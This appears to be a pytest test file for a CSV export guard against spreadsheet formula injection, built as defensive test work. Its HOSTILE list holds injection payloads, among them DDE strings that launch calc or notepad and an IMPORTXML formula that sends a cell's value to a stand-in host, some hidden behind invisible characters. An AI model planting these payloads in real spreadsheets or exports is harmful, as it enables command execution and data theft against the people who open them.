"""G40: an export opened in a spreadsheet stays data. The naive mutant, without the guard, lets formulas through."""

from __future__ import annotations

import csv
from io import StringIO

import pytest

from ops_console.pages.events import Cell, csv_lines, inert

HOSTILE = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example","here")', "=WEBSERVICE(A1)", "+1+1", "+cmd|'/c calc'!A1",
    "-2+3", "-2+3+cmd|' /C notepad'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "@import", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1",
    " =1+1", "   +1", "\u00a0=1", "\u200b=1", "\ufeff=1+1", "\u202e=1", "\u2028=1", "\x00=1", "\x0b=1", "\uff1d1+1", "\uff0b1",
    "\uff0d1", "\uff20SUM(1)", "\u3000=1", "=", "+", "-", "@", "\t", "\r", "|calc", "%0A=1", "=1\",\"=2", "=1\n=2",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "=IMPORTXML(CONCAT(\"http://x/?v=\", A2), \"//a\")",
)  # fmt: skip
"""What has been used to make a spreadsheet calculate, call or fetch something; also behind blanks and unseen characters."""
HARMLESS = ("refund.create", "a=b", "1,5", 'say "no"', "two\nlines", "München", "", "sha256:00", "{}", "'quoted")


def begins_formula(cell: str) -> bool:
    """What spreadsheets look at: the first character, or the first behind what they trim."""
    # Written on its own: the guard must not be judged by its own list.
    bare = cell.lstrip("\ufeff\u200b\u202e\u2028\u3000\u00a0\x00\x0b \t\r\n")
    return cell[:1] in tuple("=+-@\t\r\n|%＝＋－＠") or bare[:1] in tuple("=+-@|%＝＋－＠")


def read_back(lines: list[str]) -> list[list[str]]:
    return list(csv.reader(StringIO("".join(lines), newline=""), strict=True))


def mutant_lines(header: list[str], rows: list[list[Cell]]) -> list[str]:
    """The same table without the guard."""
    out = StringIO()
    csv.writer(out, quoting=csv.QUOTE_NONNUMERIC).writerows([header, *rows])
    return [out.getvalue()]


def test_no_cell_of_an_export_begins_like_a_formula() -> None:
    lines = list(csv_lines(["a", "b", "c"], [[text, 12650, text] for text in HOSTILE]))
    rows = read_back(lines)
    assert len(rows) == 1 + len(HOSTILE) and all(len(row) == 3 for row in rows)
    assert [row for row in rows for cell in (row[0], row[2]) if begins_formula(cell)] == []
    assert [row[0] for row in rows[1:]] == [f"'{text}" for text in HOSTILE], "the text itself is kept"
    print(f"N={len(HOSTILE)} hostile texts, {2 * len(HOSTILE)} cells, 0 begin a formula")


def test_the_mutant_without_the_guard_turns_red() -> None:
    rows = read_back(mutant_lines(["a"], [[text] for text in HOSTILE]))
    assert all(begins_formula(row[0]) for row in rows[1:])


@pytest.mark.parametrize("text", HARMLESS)
def test_a_harmless_text_is_written_as_it_is_and_quoted(text: str) -> None:
    (line,) = list(csv_lines(["a"], [[text]]))[1:]
    assert line == '"' + text.replace('"', '""') + '"\r\n'


def test_numbers_stay_numbers_and_nothing_is_an_empty_cell() -> None:
    assert list(csv_lines(["n", "m", "t"], [[12650, -5, None]]))[1:] == ['12650,-5,""\r\n']
    assert (inert(-5), inert("-5"), inert(None)) == (-5, "'-5", None)
